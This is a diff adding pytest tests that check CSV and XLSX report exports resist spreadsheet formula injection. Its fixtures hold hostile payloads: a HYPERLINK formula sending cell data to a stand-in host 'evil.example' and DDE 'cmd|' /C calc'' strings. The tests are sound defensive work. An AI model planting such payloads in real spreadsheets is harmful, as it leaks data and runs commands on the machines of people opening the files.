@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import zipfile
 from datetime import date
 
 import pytest
@@ -27,6 +28,10 @@ from app.reports import (
     report_xlsx,
     write_file,
 )
+from app.reports.cells import FORMULA_STARTS
+from app.reports.csvout import table_csv
+from app.reports.tables import Column, Kind, Table
+from app.reports.xlsx import tables_xlsx
 from tests.reports.builders import (
     ANDI_OTHER,
     NAMES,
@@ -261,3 +266,71 @@ def test_indicator_exports(tmp_path):
     assert fills["在册对象探访关爱率"].endswith("FFC7CE")  # not met: red
     assert fills["慈善组织累计数"].endswith("EDEDED")  # no data: grey
     assert ws.cell(row=4, column=8).value == "—"  # no value entered for indicator 1
+
+
+# --- formula injection (公式注入) ---------------------------------------------------------
+
+LINK = '=HYPERLINK("http://evil.example/?d="&C5,"点击查看详情")'
+PAYLOADS = (LINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
+
+
+def _runs(text: str) -> bool:
+    """Whether a spreadsheet opening this CSV text would run it: a formula start, not a number."""
+    if not text.startswith(FORMULA_STARTS):
+        return False
+    try:
+        float(text.rstrip("%"))
+    except ValueError:
+        return True
+    return False
+
+
+@pytest.fixture
+def hostile(world):
+    """The world's reports with a village, a worker and household heads named like formulas."""
+    names = {**NAMES, YANTOU: PAYLOADS[0], ANDI_OTHER: PAYLOADS[1], "w-li": PAYLOADS[2]}
+    reports = coverage_by(
+        world["caseload"], "2026-11", [None, *Breakdown], policy=POLICY, names=names
+    )
+    heads = {hid: p.model_copy(update={"name": PAYLOADS[3]}) for hid, p in world["heads"].items()}
+    return reports, names, heads
+
+
+def test_no_csv_cell_can_run_as_a_formula(hostile):
+    reports, names, heads = hostile
+    texts = [report_csv(r, names).decode("utf-8-sig") for r in reports]
+    texts.append(overdue_csv(reports[0], heads, names).decode("utf-8-sig"))
+    cells = [c for text in texts for row in csv.reader(io.StringIO(text)) for c in row]
+    assert [c for c in cells if _runs(c)] == []
+    assert "'" + LINK in cells and "'" + PAYLOADS[1] in cells  # shown as typed, after a '
+    assert any(c.startswith("'@*") for c in cells)  # a masked head keeps its first character
+
+
+def test_no_xlsx_cell_is_a_formula_and_each_reads_as_typed(hostile):
+    reports, names, heads = hostile
+    data = report_xlsx(reports, names=names, heads=heads)
+    with zipfile.ZipFile(io.BytesIO(data)) as book:
+        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert all(b"<f>" not in book.read(n) and b"<f " not in book.read(n) for n in sheets)
+    wb = load_workbook(io.BytesIO(data))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    link = next(c for c in cells if c.value == LINK)  # the text itself, no apostrophe added
+    assert link.data_type == "s" and link.quotePrefix  # stays text when edited in Excel
+    assert any(c.value == PAYLOADS[2] and c.quotePrefix for c in cells)
+
+
+def test_numbers_stay_numbers_and_plain_text_is_untouched():
+    table = Table(
+        "表",
+        "标题",
+        "副标题",
+        (Column("名称"), Column("差额", Kind.NUMBER), Column("户数", Kind.COUNT)),
+        [("-50", -50.0, -3), ("-", None, 0), ("岩头村", 12.5, 4)],
+    )
+    rows = list(csv.reader(io.StringIO(table_csv(table).decode("utf-8-sig"))))
+    assert rows[1:] == [["-50", "-50", "-3"], ["-", "", "0"], ["岩头村", "12.5", "4"]]
+    ws = load_workbook(io.BytesIO(tables_xlsx([table]))).active
+    assert [c.value for c in ws[4]] == ["-50", -50, -3]
+    assert (ws["B4"].data_type, ws["C4"].data_type) == ("n", "n")
+    assert not any(c.quotePrefix for row in ws.iter_rows() for c in row)
